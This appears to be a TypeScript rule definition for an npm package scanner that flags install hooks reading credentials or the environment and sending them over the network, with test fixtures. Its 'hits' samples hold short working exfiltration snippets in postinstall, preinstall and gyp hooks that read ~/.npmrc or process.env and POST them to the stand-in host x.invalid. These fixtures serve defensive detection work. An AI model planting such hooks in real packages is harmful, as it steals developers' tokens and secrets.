import type { Rule } from '../rule';
import { OF_PLATFORMS } from '../sample-manifests';

export const hookCredentialTheft: Rule = {
  code: 'hook-credential-theft',
  ecosystem: 'npm',
  kind: 'install-hook',
  severity: 'critical',
  verdict: 'malicious',
  tactic: 'exfiltration',
  capabilities: ['network', 'environment', 'credential-files'],
  languages: ['javascript', 'python', 'shell', 'gyp'],
  summary: 'An install hook reads credentials or the whole environment, and talks to the network.',
  message: 'reads credentials and talks to the network',
  pattern: { where: 'hooks', any: ['credential-file', 'environment-harvest'], near: ['network'] },
  samples: {
    hits: [
      {
        what: 'npm credentials sent away',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node a.js' } },
        files: {
          'a.js':
            'const fs = require("fs"); const os = require("os"); const t = fs.readFileSync(os.homedir() + "/.npmrc", "utf8"); fetch("https://x.invalid", { method: "POST", body: t })',
        },
        verdict: 'malicious',
      },
      {
        what: 'the environment sent away',
        format: 'tarball',
        manifest: { scripts: { preinstall: 'node a.js' } },
        files: {
          'a.js':
            'import("node:https").then((h) => h.request("https://x.invalid", { method: "POST" }).end(JSON.stringify(process.env)))',
        },
        verdict: 'malicious',
      },
      {
        what: 'the environment sent from one file, taken in another',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node a.js' } },
        files: {
          'a.js': 'const { all } = require("./b"); fetch("https://x.invalid", { body: all() })',
          'b.js': 'exports.all = () => Object.entries(process.env).join()',
        },
        verdict: 'malicious',
      },
      {
        what: 'a gyp file whose code steals',
        format: 'tarball',
        files: {
          'binding.gyp':
            '{ "targets": [{ "actions": [{ "action": ["node", "a.js"] }], "sources": ["a.cc"] }] }',
          'a.cc': 'int x;',
          'a.js': 'fetch("https://x.invalid", { body: JSON.stringify(process.env) })',
        },
        verdict: 'malicious',
      },
      {
        what: 'its own binary out of the registry, with theft',
        format: 'tarball',
        manifest: OF_PLATFORMS,
        files: {
          'install.js':
            'const https = require("https"); https.get(`https://REGISTRY/${pkg}`, save); send(JSON.stringify(process.env))',
        },
        verdict: 'malicious',
      },
      {
        what: 'Python that steals',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'python3 x.py' } },
        files: {
          'x.py':
            'import os, json, urllib.request\nurllib.request.urlopen("https://x.invalid", json.dumps(dict(os.environ)).encode())',
        },
        verdict: 'malicious',
      },
    ],
    ignores: [
      {
        what: 'a download past a proxy',
        format: 'tarball',
        manifest: { scripts: { postinstall: 'node a.js' } },
        files: {
          'a.js':
            'const { HTTPS_PROXY } = process.env; const https = require("https"); const crypto = require("crypto"); https.get("https://releases.invalid/x.node", (r) => { const hash = crypto.createHash("sha256"); r.on("data", (c) => hash.update(c)); r.on("end", () => { if (hash.digest("hex") !== require("./sum.json").sha256) process.exit(1); }); });',
          'sum.json': '{ "sha256": "" }',
        },
        why: 'A variable by its name is a setting, not what the machine holds.',
        verdict: 'warning',
        speaks: ['hook-download'],
      },
    ],
  },
};
